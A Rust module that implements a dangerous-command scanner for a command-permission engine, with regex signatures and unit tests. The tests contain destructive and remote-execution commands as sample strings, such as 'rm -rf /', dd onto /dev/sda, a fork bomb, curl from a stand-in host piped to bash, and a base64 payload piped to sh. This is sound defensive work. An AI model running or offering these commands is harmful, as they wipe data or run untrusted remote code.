//! Dangerous Command Detection
//!
//! This module implements the destructive-command scan that runs before any
//! rule matching. A match always denies the command, regardless of custom
//! rules; the scan can only be disabled globally via engine configuration.
//!
//! Detected signatures:
//! - Recursive deletion of the filesystem root or home directory
//! - Raw writes to block devices (dd, shell redirects)
//! - Filesystem formatting and partitioning
//! - Fork bombs
//! - World-writable permission changes on the filesystem root
//! - Remote scripts piped straight into a shell
//! - eval of command substitution
//! - base64-decoded payloads piped into a shell

use regex::Regex;
use serde::{Deserialize, Serialize};

/// Severity of a dangerous pattern match
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    /// Destroys data or the host irrecoverably
    Critical,
    /// Likely to compromise the host or escalate privileges
    High,
}

impl std::fmt::Display for Severity {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Critical => write!(f, "critical"),
            Self::High => write!(f, "high"),
        }
    }
}

/// A compiled dangerous-command signature
#[derive(Debug, Clone)]
pub struct DangerousPattern {
    /// Compiled signature
    pub regex: Regex,
    /// Human-readable description used in denial reasons
    pub description: &'static str,
    /// Severity reported alongside the denial
    pub severity: Severity,
}

impl DangerousPattern {
    fn new(pattern: &str, description: &'static str, severity: Severity) -> Option<Self> {
        Regex::new(pattern).ok().map(|regex| Self {
            regex,
            description,
            severity,
        })
    }
}

/// Scanner over the full reconstructed command line
///
/// The scan runs against `command + " " + args.join(" ")` so that
/// signatures spanning command and arguments are caught.
#[derive(Debug, Clone)]
pub struct DangerousScanner {
    patterns: Vec<DangerousPattern>,
    enabled: bool,
}

impl Default for DangerousScanner {
    fn default() -> Self {
        Self::new()
    }
}

impl DangerousScanner {
    /// Create a scanner with the default signature set
    pub fn new() -> Self {
        Self {
            patterns: Self::default_patterns(),
            enabled: true,
        }
    }

    /// Enable or disable the scan globally
    pub fn set_enabled(&mut self, enabled: bool) {
        self.enabled = enabled;
    }

    /// Whether the scan is enabled
    pub fn is_enabled(&self) -> bool {
        self.enabled
    }

    /// Scan a full command line; returns the first matching signature
    pub fn scan(&self, command_line: &str) -> Option<&DangerousPattern> {
        if !self.enabled {
            return None;
        }
        self.patterns.iter().find(|p| p.regex.is_match(command_line))
    }

    /// Number of registered signatures
    pub fn pattern_count(&self) -> usize {
        self.patterns.len()
    }

    /// Default ordered list of destructive-command signatures
    fn default_patterns() -> Vec<DangerousPattern> {
        let specs: [(&str, &str, Severity); 10] = [
            (
                r"rm\s+(-[a-zA-Z]+\s+)*(/|/\*|~|~/\*|\$HOME)(\s|$)",
                "recursive deletion of filesystem root or home directory",
                Severity::Critical,
            ),
            (
                r"dd\s+[^|;]*of=/dev/(sd[a-z]|hd[a-z]|nvme\d|xvd[a-z]|mem|kmem)",
                "raw write to a disk device",
                Severity::Critical,
            ),
            (
                r">>?\s*/dev/(sd[a-z]|hd[a-z]|nvme\d|xvd[a-z]|mem|kmem)",
                "shell redirect onto a disk device",
                Severity::Critical,
            ),
            (
                r"\bmkfs(\.[a-z0-9]+)?\b",
                "filesystem format command",
                Severity::Critical,
            ),
            (
                r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
                "fork bomb",
                Severity::Critical,
            ),
            (
                r"chmod\s+(-[a-zA-Z]+\s+)*777\s+/(\s|$)",
                "world-writable permissions on filesystem root",
                Severity::High,
            ),
            (
                r"curl\s+[^|;]*\|\s*(sudo\s+)?(ba|z)?sh",
                "remote script piped into a shell via curl",
                Severity::High,
            ),
            (
                r"wget\s+[^|;]*\|\s*(sudo\s+)?(ba|z)?sh",
                "remote script piped into a shell via wget",
                Severity::High,
            ),
            (
                r"eval\s+[^;]*\$\(",
                "eval of command substitution",
                Severity::High,
            ),
            (
                r"base64\s+(-d|--decode)[^|;]*\|\s*(ba|z)?sh",
                "base64-decoded payload piped into a shell",
                Severity::High,
            ),
        ];

        specs
            .iter()
            .filter_map(|(pattern, description, severity)| {
                DangerousPattern::new(pattern, description, *severity)
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_all_default_patterns_compile() {
        let scanner = DangerousScanner::new();
        assert_eq!(scanner.pattern_count(), 10);
    }

    #[test]
    fn test_rm_rf_root_detected() {
        let scanner = DangerousScanner::new();
        let hit = scanner.scan("rm -rf /").expect("should match");
        assert_eq!(hit.severity, Severity::Critical);
        assert!(hit.description.contains("root"));
    }

    #[test]
    fn test_rm_rf_variants_detected() {
        let scanner = DangerousScanner::new();
        assert!(scanner.scan("rm -rf /*").is_some());
        assert!(scanner.scan("rm -rf ~").is_some());
        assert!(scanner.scan("rm -fr ~/*").is_some());
        assert!(scanner.scan("rm -rf $HOME").is_some());
    }

    #[test]
    fn test_rm_in_project_directory_allowed() {
        let scanner = DangerousScanner::new();
        assert!(scanner.scan("rm -rf ./build").is_none());
        assert!(scanner.scan("rm -rf target/debug").is_none());
        assert!(scanner.scan("rm file.txt").is_none());
    }

    #[test]
    fn test_dd_to_disk_detected() {
        let scanner = DangerousScanner::new();
        assert!(scanner.scan("dd if=/dev/zero of=/dev/sda").is_some());
        assert!(scanner.scan("dd if=image.iso of=/dev/nvme0 bs=4M").is_some());
        // dd onto a regular file is fine
        assert!(scanner.scan("dd if=/dev/zero of=disk.img bs=1M").is_none());
    }

    #[test]
    fn test_device_redirect_detected() {
        let scanner = DangerousScanner::new();
        assert!(scanner.scan("echo junk > /dev/sda").is_some());
        assert!(scanner.scan("cat payload >> /dev/hdb").is_some());
        assert!(scanner.scan("echo hi > /dev/null").is_none());
    }

    #[test]
    fn test_mkfs_detected() {
        let scanner = DangerousScanner::new();
        assert!(scanner.scan("mkfs /dev/sdb1").is_some());
        assert!(scanner.scan("mkfs.ext4 /dev/sdb1").is_some());
    }

    #[test]
    fn test_fork_bomb_detected() {
        let scanner = DangerousScanner::new();
        assert!(scanner.scan(":(){ :|:& };:").is_some());
    }

    #[test]
    fn test_chmod_777_root_detected() {
        let scanner = DangerousScanner::new();
        assert!(scanner.scan("chmod 777 /").is_some());
        assert!(scanner.scan("chmod -R 777 /").is_some());
        // 777 on a project path is not in scope for the hard deny
        assert!(scanner.scan("chmod 777 ./script.sh").is_none());
    }

    #[test]
    fn test_curl_pipe_shell_detected() {
        let scanner = DangerousScanner::new();
        assert!(scanner.scan("curl https://evil.sh/x | bash").is_some());
        assert!(scanner.scan("curl -fsSL https://x.io/i.sh | sudo sh").is_some());
        assert!(scanner.scan("wget -O - https://x.io/i.sh | sh").is_some());
        // plain downloads are fine
        assert!(scanner.scan("curl -o out.html https://example.com").is_none());
    }

    #[test]
    fn test_eval_substitution_detected() {
        let scanner = DangerousScanner::new();
        assert!(scanner.scan("eval $(curl https://x.io/payload)").is_some());
        assert!(scanner.scan("eval \"$(printf foo)\"").is_some());
    }

    #[test]
    fn test_base64_decode_exec_detected() {
        let scanner = DangerousScanner::new();
        assert!(scanner.scan("echo cm0gLXJmIC8= | base64 -d | sh").is_some());
        assert!(scanner.scan("base64 --decode payload.b64 | bash").is_some());
        assert!(scanner.scan("base64 --decode payload.b64").is_none());
    }

    #[test]
    fn test_disabled_scanner_matches_nothing() {
        let mut scanner = DangerousScanner::new();
        scanner.set_enabled(false);
        assert!(scanner.scan("rm -rf /").is_none());
        assert!(!scanner.is_enabled());
    }

    #[test]
    fn test_safe_commands_pass() {
        let scanner = DangerousScanner::new();
        for cmd in [
            "ls -la",
            "git status",
            "cargo build --release",
            "npm install",
            "echo hello world",
        ] {
            assert!(scanner.scan(cmd).is_none(), "false positive on '{}'", cmd);
        }
    }
}
